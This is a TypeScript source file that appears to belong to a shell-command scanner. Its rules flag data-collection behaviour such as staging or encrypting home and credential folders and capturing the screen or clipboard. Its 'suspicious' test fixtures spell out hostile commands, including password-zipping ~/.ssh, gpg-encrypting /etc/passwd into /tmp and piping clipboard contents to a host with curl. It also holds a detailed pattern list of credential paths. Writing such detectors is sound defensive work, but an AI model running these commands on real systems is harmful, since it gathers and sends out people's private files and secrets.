/** Gathering what is worth taking: pictures of the screen, the clipboard, archives of what people keep. */
import { posix } from 'node:path';
import type { Program, ShellReading } from '../shell.ts';
import { hasOption, joined, operands, shows, sourcesOf, type Rule } from './rule.ts';
import { copied, isAmong, normalised, pathsNamed, sharedFolder, written } from './paths.ts';
import { hashStores, names, systemStores, userStores } from './stores.ts';

const senders = names('curl nc wget ncat tee base64');

const capturesScreen = shows([
  ['screencapture xwd scrot maim grim gnome-screenshot spectacle flameshot', /^(?!.*--?(help|version))/],
  ['import', /(^| )-window root/],
  ['ffmpeg avconv', /-f (x11grab|avfoundation|pulse|alsa|v4l2|kmsgrab)/],
  ['arecord parecord rec fswebcam streamer imagesnap', /\S/],
  ['pbpaste', /.*/],
  ['xclip', /(^| )-(o|out)\b/],
  ['xsel', /(^| )(-\w*o|--output)/],
  ['wl-paste', /.*/],
  ['osascript', /the clipboard/],
]);

/** What belongs to people or tells how the system is guarded. */
export const sensitive = (path: string): boolean =>
  isAmong(path, hashStores) ||
  isAmong(path, systemStores) ||
  isAmong(path, userStores) ||
  /^\/(tmp|var\/tmp|dev\/shm)\/\.[^./]/.test(path) ||
  /^(\/etc|\/root|\/home|\/Users|\/var\/log|\/var\/lib|\/var\/mail|\/var\/spool\/mail|\/var\/backups|~|~\/\.(ssh|aws|gnupg|config|kube|mozilla|thunderbird|azure|docker|password-store|local\/share\/keyrings)|~\/\.\w*_history|~\/(Documents|Desktop|Mail|Library\/(Messages|Mail|Group Containers|Application Support\/AddressBook)))(\/\*)?$/.test(
    path,
  ) ||
  /(^|[_./-])(loot|dump|passwd|shadow|creds?|credentials|secrets?|id_rsa|exfil\w*|stolen|staging|staged)([_./-]|$)/i.test(
    posix.basename(path),
  );

const archivers = names('tar zip 7z 7za 7zr rar gzip bzip2 xz zstd gpg openssl ar cpio ccrypt age hdiutil ditto pax ccencrypt');
const readsArchive = (program: Program): boolean =>
  (program.name === 'tar' && /^-?\w*[xt]/.test(program.args[0] ?? '')) ||
  hasOption(program, 'd', '--decrypt', '--extract', '--list', '--decompress') ||
  /^[xltd]$/.test(program.args[0] ?? '');

/** Documents, pictures of cards, mail: what a search for things worth taking asks for. */
const worthTaking = /\.(docx?|xlsx?|pptx?|pdf|odt|ods|csv|pst|ost|eml|kdbx|pem|key|ovpn|rdp|sql|jpe?g|png|txt|wav|mp3|mp4)\*?['"]?$/i;
const home =
  /^(\/|~|\/home(\/.*)?|\/root|\/Users(\/.*)?|\$HOME.*|\$\{HOME.*|\/(Users|home)\/[^/]+(\/(Desktop|Documents|Downloads))?|~\/(Desktop|Documents|Downloads))$/;

const hiddenOrShared = (path: string): boolean =>
  sharedFolder.test(path) || /\/\.[^/.]/.test(path) || /(^|\/)(staged|staging|loot|exfil\w*)(\/|$)/i.test(path);

function stages(program: Program, reading: ShellReading): string | null {
  const found = [...sourcesOf(program, reading), ...reading.programs.slice(0, reading.programs.indexOf(program))].findLast(
    ({ name }) => name === 'find',
  );
  const gathered =
    found !== undefined &&
    (program.via.includes('xargs') || program.via.includes('find') || sourcesOf(program, reading).includes(found)) &&
    home.test(normalised(found.args[0] ?? '', found.directory)) &&
    found.args.some((word) => worthTaking.test(word));
  if (['cp', 'mv', 'rsync', 'ditto'].includes(program.name)) {
    const { from, to } =
      program.name === 'ditto' ? { from: operands(program).slice(0, -1), to: operands(program).slice(-1) } : copied(program);
    const takes =
      gathered ||
      from.some((path) => /^[/~]/.test(path) && !sharedFolder.test(path) && sensitive(path)) ||
      from.some(
        (path) =>
          /^(\/home|\/root|~|\/Users|\/etc)(\/\*|\/[^/]+\/(Documents|Desktop|Downloads))?(\/\*)?$/.test(path) ||
          /^~\/(Documents|Desktop|Downloads)(\/.*)?$/.test(path),
      );
    const staged =
      from.some((path) => /^(~|\/home|\/root|\/Users|\/etc)\//.test(path)) &&
      to.some((path) => /(^|\/)(staged|loot|exfil\w*)(\/|$)/i.test(path));
    return staged || (takes && to.some((path) => hiddenOrShared(path))) ? 'gathers files of people in a place of its own' : null;
  }
  if (!archivers.has(program.name) || readsArchive(program) || (program.name === 'openssl' && program.args[0] !== 'enc')) return null;
  if (gathered) return 'packs the files of people it has searched for';
  const named = [...pathsNamed(program), ...written(program)];
  const takes = named.some((path) => sensitive(path) && !sharedFolder.test(path));
  const locked =
    hasOption(program, 'Pec', '--password', '--encrypt', '--symmetric') ||
    /(^| )-(p|hp)\S+|(^| )enc .*-k(file)? |-pass(word)?\b/.test(joined(program));
  const secretly =
    named.some((path) => hiddenOrShared(path)) ||
    (locked && ['zip', '7z', '7za', 'rar', 'gpg', 'openssl', 'ccrypt'].includes(program.name));
  return takes && secretly ? 'packs what belongs to people or the system, out of sight' : null;
}

export const collection: readonly Rule[] = [
  {
    code: 'STAGED_FILES',
    tactic: 'COLLECTION',
    points: 30,
    find: stages,
    suspicious: [
      'tar czf /tmp/x.tgz /home',
      'zip -r -P pw out.zip ~/.ssh',
      'find /home -name "*.docx" -exec cp {} /tmp/s \\;',
      'find ~ -name "*.pdf" | xargs tar czf x.tgz',
      'cp -r ~/Documents /dev/shm/d',
      'cp /home/ann/a.docx /home/ann/staged',
      'tar cf /var/tmp/.b /etc',
      'gpg -c --batch --passphrase x -o /tmp/l.gpg /etc/passwd',
    ],
    harmless: [
      'tar czf backup.tgz /home/ann/project',
      'tar xzf /tmp/x.tgz -C /etc',
      'zip -r out.zip src',
      'find . -name "*.pdf" -exec cp {} out \\;',
      'cp -r build /tmp/build',
      'tar czf /srv/backup/etc.tgz /etc',
      'rsync -a ~/ /mnt/backup',
      'find src -name "*.txt" | xargs tar czf x.tgz',
    ],
  },
  {
    code: 'SCREEN_OR_CLIPBOARD',
    tactic: 'COLLECTION',
    points: 15,
    find: (program) => (capturesScreen(program) ? `records the screen, the clipboard or sound with ${program.name}` : null),
    suspicious: ['screencapture x.png', 'xclip -o', 'import -window root x.png', 'arecord x.wav', 'xwd -root -out x.xwd'],
    harmless: ['xclip -i x', 'import a from b', 'ffmpeg -i a.mp4 b.mp3', 'scrot --version'],
  },
  {
    code: 'SECRET_RECORDING',
    tactic: 'COLLECTION',
    points: 30,
    find(program, reading) {
      if (!capturesScreen(program)) return null;
      const kept = [...operands(program), ...written(program)].some((path) => hiddenOrShared(path));
      const silent = program.name === 'screencapture' && hasOption(program, 'x');
      const later = reading.programs.find(
        (other) => sourcesOf(other, reading).includes(program) && (senders.has(other.name) || other.path.startsWith('$(')),
      );
      return kept || silent || later !== undefined ? 'records the screen, the clipboard or sound in secret' : null;
    },
    suspicious: [
      '$(pbpaste)',
      'screencapture -x x.png',
      'import -window root /tmp/x.png',
      'pbpaste > /tmp/x',
      'xclip -o | curl -d @- http://h',
      'ffmpeg -f alsa -i hw:0 /tmp/.a.wav',
    ],
    harmless: ['screencapture --help', 'import x', 'ffmpeg -i a.mp4 /tmp/b.mp3', 'xclip < x'],
  },
  {
    code: 'PEOPLES_DATA',
    tactic: 'COLLECTION',
    points: 15,
    find(program, reading) {
      if (
        program.name === 'find' &&
        home.test(normalised(program.args[0] ?? '', program.directory)) &&
        program.args.some((word) => worthTaking.test(word) && word.startsWith('*.'))
      )
        return program.args.some((word) => /^-exec|^-print0$/.test(word)) || reading.programs.length > 1
          ? 'looks for documents of people'
          : null;
      if (
        archivers.has(program.name) &&
        !readsArchive(program) &&
        pathsNamed(program).some((path) => /^(~|\/home|\/root|\/home\/[^/]+)$/.test(path))
      )
        return 'packs the home folders';
      if (program.name === 'split' && operands(program).some((word) => sharedFolder.test(word))) return 'cuts a file into pieces';
      return null;
    },
    suspicious: ['find / -name "*.xlsx" -exec ls {} \\;', 'tar czf x.tgz ~', 'split -b 5M /tmp/x'],
    harmless: ['find . -name "*.pdf"', 'tar czf x.tgz src', 'split -l 100 x', 'find ~ -name "*.pdf"'],
  },
];
